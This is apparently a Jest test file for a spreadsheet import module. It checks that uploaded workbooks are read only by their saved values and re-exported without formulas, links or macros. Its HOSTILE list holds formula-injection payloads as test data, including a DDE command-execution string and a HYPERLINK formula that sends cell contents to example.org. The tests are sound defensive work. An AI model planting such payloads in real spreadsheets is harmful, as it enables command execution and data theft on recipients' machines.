import { unzipSync } from 'fflate';
import { CFB, utils, write } from '@e965/xlsx';
import { describe, expect, test } from '@jest/globals';
import { encodeWorkbook, readWorkbook } from '@mandate/workbook';
import { IMPORT_LIMITS } from './limits.ts';
import { markSourceFile, readSourceFile } from './read-source-file.ts';
import { ITEM_SHEET } from './template/authority-sheets.ts';
import { encodeAuthorityTemplate } from './template/encode-template-file.ts';
import { headersOf } from './template/template-workbook.ts';

const HEADERS = headersOf(ITEM_SHEET);
/** What a spreadsheet that opens the file would run: formulas, DDE, a call of a program, data from outside. */
const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+HYPERLINK("http://example.org?x="&A1)',
  '-2+3',
  '=WEBSERVICE("http://example.org")',
  '=IMPORTXML("http://example.org","//a")',
  '＝1+1',
  '<f>1+1</f>',
  ']]>&#61;1+1',
  '_x003D_1+1',
];

/** A filled template whose cells hold formulas with saved values, as Excel writes them. */
function withFormulas(bookType: 'xlsx' | 'xlsm' | 'biff8'): Uint8Array {
  const sheet = utils.aoa_to_sheet([[...HEADERS], HEADERS.map(() => '')]);
  const at = (header: string): string => utils.encode_cell({ r: 1, c: HEADERS.indexOf(header) });
  sheet[at('事项序号')] = { t: 'n', v: 1, f: '0+1' };
  sheet[at('事项名称')] = { t: 's', v: '甲许可', f: 'CONCATENATE("甲","许可")' };
  sheet[at('权力类型')] = { t: 's', v: '行政许可', f: "'[http://example.org/x.xlsx]Sheet1'!A1" };
  sheet[at('备注')] = { t: 's', v: '保存的值', f: 'WEBSERVICE("http://example.org")' };
  const book = utils.book_new();
  utils.book_append_sheet(book, sheet, ITEM_SHEET.name);
  // With type 'array' the writer gives an ArrayBuffer; its own type says any.
  return new Uint8Array(write(book, { type: 'array', bookType }) as ArrayBuffer);
}

function partsOf(workbook: Uint8Array): Record<string, string> {
  return Object.fromEntries(
    Object.entries(unzipSync(workbook)).map(([name, bytes]) => [name, new TextDecoder().decode(bytes)]),
  );
}

describe('a hostile file', () => {
  test.each(['xlsx', 'xlsm', 'biff8'] as const)(
    'with formulas (%s) is read by its saved values alone',
    (type) => {
      const source = readSourceFile('a.xlsx', withFormulas(type));
      expect(source.cellErrors).toEqual([]);
      const [found] = source.items;
      const item = found && 'content' in found ? found.content : undefined;
      expect(item).toMatchObject({ name: '甲许可', category: '01', remarks: '保存的值' });
    },
  );

  test('with an error of a formula is told the cell', () => {
    const sheet = utils.aoa_to_sheet([
      [...HEADERS],
      HEADERS.map((header) => (header === '事项名称' ? '甲' : '')),
    ]);
    sheet[utils.encode_cell({ r: 1, c: HEADERS.indexOf('备注') })] = { t: 'e', v: 0x17, w: '#REF!' };
    const book = utils.book_new();
    utils.book_append_sheet(book, sheet, ITEM_SHEET.name);
    // As above.
    const bytes = new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
    expect(readSourceFile('a.xlsx', bytes).cellErrors.map(({ message }) => message)).toContainEqual(
      expect.stringContaining('公式错误'),
    );
  });

  test.each(HOSTILE)('gets %j into a list and out again as the text it is', (text) => {
    const row = HEADERS.map((header) =>
      header === '事项名称' || header === '备注' ? text : header === '权力类型' ? '行政检查' : '',
    );
    const source = readSourceFile(
      'a.xlsx',
      encodeWorkbook([{ name: ITEM_SHEET.name, rows: [HEADERS, row] }], 'form'),
    );
    const [found] = source.items;
    const item = found && 'content' in found ? found.content : undefined;
    expect(item).toMatchObject({ name: text, remarks: text });
  });

  test('comes back with its errors and without formulas, links, macros or names', () => {
    const row = HEADERS.map((header, n) =>
      header === '权力类型' ? '不知道' : (HOSTILE[n % HOSTILE.length] ?? ''),
    );
    const hostile = encodeWorkbook([{ name: ITEM_SHEET.name, rows: [HEADERS, row] }], 'form');
    const { cellErrors } = readSourceFile('a.xlsx', hostile);
    const parts = partsOf(markSourceFile(hostile, cellErrors));
    expect(
      Object.keys(parts).filter(
        (name) =>
          !/^(?:\[Content|_rels|xl\/(?:workbook|styles|_rels|worksheets|comments|drawings))/.test(name),
      ),
    ).toEqual([]);
    for (const xml of Object.values(parts))
      expect(xml).not.toMatch(/<f[ >]|<hyperlink|externalLink|definedName|vbaProject|<oleObject/);
    // Every cell with words is a quoted inline text.
    const sheet = parts['xl/worksheets/sheet2.xml'] ?? '';
    const cells = sheet.match(/<c [^>]*>/g) ?? [];
    expect(cells.length).toBeGreaterThan(HEADERS.length);
    expect(cells.filter((cell) => !/t="inlineStr"|\/>$/.test(cell))).toEqual([]);
    // The drop-downs of the template are there again.
    expect(sheet).toContain('<formula1>"行政许可,');
    expect(parts['xl/styles.xml']?.match(/<xf numFmtId="49"[^>]*quotePrefix="1"/g)).toHaveLength(3);
  });

  test('that claims to be a template of endless rows, or of no rows, is no crash', () => {
    const rows = [
      HEADERS,
      ...Array.from({ length: 3_000 }, (_, n) => ['', n.toString(), `名称${n.toString()}`]),
    ];
    const bytes = encodeWorkbook([{ name: ITEM_SHEET.name, rows }], 'form');
    const source = readSourceFile('a.xlsx', bytes);
    expect(source.items).toEqual([]);
    expect(source.cellErrors.length).toBeGreaterThan(2_999);
    expect(readWorkbook(markSourceFile(bytes, source.cellErrors))[0]?.rows).toBe(
      IMPORT_LIMITS.markedErrors + 2,
    );
    expect(readSourceFile('b.xlsx', encodeAuthorityTemplate('xlsx')).items).toEqual([]);
  });

  test('that is an .xls of another program, with a sheet named as in the template, is read by its cells', () => {
    const bytes = withFormulas('biff8');
    expect(
      CFB.read(Buffer.from(bytes), { type: 'buffer' }).FullPaths.some((path: string) =>
        /Workbook/.test(path),
      ),
    ).toBe(true);
    expect(readSourceFile('a.xls', bytes).items).toHaveLength(1);
  });
});
